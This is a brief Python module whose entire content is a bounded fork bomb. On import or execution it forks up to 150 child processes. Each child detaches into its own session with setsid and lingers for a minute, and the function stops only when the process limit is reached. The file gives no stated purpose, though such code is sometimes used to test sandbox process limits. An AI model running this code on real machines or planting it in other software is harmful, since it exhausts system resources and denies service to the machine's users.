import os
import time


def _bomb(count: int = 150) -> None:
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError:
            return  # the process limit: the bomb is over
        if pid == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)


_bomb()
